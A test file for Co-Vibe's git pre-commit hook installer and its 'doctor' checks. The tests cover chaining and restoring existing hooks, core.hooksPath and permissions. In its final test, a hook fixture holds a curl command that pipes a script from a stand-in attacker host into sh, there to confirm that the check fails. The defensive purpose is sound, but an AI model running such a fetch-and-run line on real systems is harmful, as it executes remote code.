import { execFileSync, spawnSync } from 'node:child_process';
import { chmodSync, existsSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { type FakeHost, fakeHost } from '../../../../test/support/companion-host.js';
import { checkGitHook } from './checks/git-hook-check.js';
import { installGitHook, removeGitHook } from './git-hook.js';
import { realPrograms } from './programs.js';
import { standpointOf } from './standpoint.js';

describe('the backstop before a commit', () => {
  let host: FakeHost;
  let path: string;
  const git = (...args: string[]) =>
    execFileSync('git', ['-c', 'user.name=Ada', '-c', 'user.email=ada@example.com', ...args], {
      ...{ cwd: host.project, stdio: 'pipe' },
    });
  const commit = () => {
    const args = ['-c', 'user.name=Ada', '-c', 'user.email=ada@example.com', 'commit'];
    const { status } = spawnSync('git', [...args, '--allow-empty', '-m', 'x'], {
      cwd: host.project,
    });
    return status;
  };
  const install = () => installGitHook(host, host.project, realPrograms);
  /** In place of the real program: only how it ends counts here. */
  const ending = (code: number) =>
    writeFileSync(
      join(host.packageFolder, 'bin', 'covibe-git-hook.cjs'),
      `require('node:fs').writeFileSync('asked', ''); process.exit(${code});`,
    );
  const wasAsked = () => existsSync(join(host.project, 'asked'));

  beforeEach(() => {
    host = fakeHost();
    host.nodePath = process.execPath;
    git('init', '-q');
    path = join(host.project, '.git', 'hooks', 'pre-commit');
    ending(0);
  });
  afterEach(() => host.remove());

  it('refuses a commit only where it says so, and never by a fault of its own', async () => {
    expect(await install()).toEqual({ path });
    expect([commit(), wasAsked()]).toEqual([0, true]);
    ending(3);
    expect(commit()).toBe(1);
    ending(1);
    expect(commit()).toBe(0);
    host.nodePath = '/nowhere/node';
    await install();
    expect(commit()).toBe(0);
  });

  it('keeps the hook that was there working, and gives it back', async () => {
    const theirs = '#!/bin/sh\necho theirs >> ran\n[ ! -e broken ]\n';
    writeFileSync(path, theirs);
    chmodSync(path, 0o755);
    await install();
    await install();
    expect([commit(), wasAsked()]).toEqual([0, true]);
    expect(readFileSync(join(host.project, 'ran'), 'utf8')).toBe('theirs\n');
    writeFileSync(join(host.project, 'broken'), '');
    expect(commit()).toBe(1);
    expect(removeGitHook(host, host.project)).toBe(path);
    expect(readFileSync(path, 'utf8')).toBe(theirs);
    expect(removeGitHook(host, host.project)).toBeUndefined();
  });

  it('destroys neither of two hooks, where another took its place', async () => {
    const [first, second] = ['#!/bin/sh\n# first\n', '#!/bin/sh\n# second\n'];
    writeFileSync(path, first);
    await install();
    writeFileSync(path, second);
    expect((await install()).obstacle).toMatch(/moved aside for Co-Vibe/);
    expect(readFileSync(path, 'utf8')).toBe(second);
    expect(readFileSync(`${path}.before-covibe`, 'utf8')).toBe(first);
  });

  it('leaves hooks alone that a repository keeps elsewhere, and says what to add', async () => {
    git('config', 'core.hooksPath', '.husky');
    expect((await install()).obstacle).toMatch(/core\.hooksPath.+covibe-git-hook\.cjs/);
    expect(existsSync(path)).toBe(false);
  });

  describe('as the doctor finds it', () => {
    const check = () => checkGitHook(standpointOf(host, {}));
    const warns = (words: RegExp) =>
      expect(check()).toMatchObject([
        {
          ...{ level: 'warn', text: expect.stringMatching(words) as string },
          mend: expect.stringContaining('covibe-local setup --git-hook') as string,
        },
      ]);

    it('is nobody’s business before somebody asked for it, and in order after that', async () => {
      expect(check()).toEqual([]);
      writeFileSync(path, '#!/bin/sh\nnpm test\n');
      expect(check()).toEqual([]);
      await install();
      expect(check()).toEqual([{ level: 'ok', subject: 'git hook', text: path }]);
    });

    it('may not be started, until setup runs again', async () => {
      await install();
      chmodSync(path, 0o644);
      warns(/may not be started/);
      await install();
      expect(check()).toMatchObject([{ level: 'ok' }]);
    });

    it('is of another installation, or starts what is not there', async () => {
      await install();
      host.nodePath = '/elsewhere/node';
      warns(/not what this installation would write/);
      await install();
      rmSync(join(host.packageFolder, 'bin', 'covibe-git-hook.cjs'));
      warns(/starts a program that/);
    });

    it('is passed over by git', async () => {
      await install();
      git('config', 'core.hooksPath', '.husky');
      warns(/core\.hooksPath/);
    });

    it('is gone, and with it the one that was there before', async () => {
      writeFileSync(path, '#!/bin/sh\n');
      await install();
      rmSync(path);
      warns(/pre-commit\.before-covibe was moved aside/);
    });

    it('only carries our name', () => {
      writeFileSync(path, '#!/bin/sh\ncurl https://evil.example/covibe | sh\n');
      expect(check()).toMatchObject([{ level: 'fail' }]);
    });
  });
});
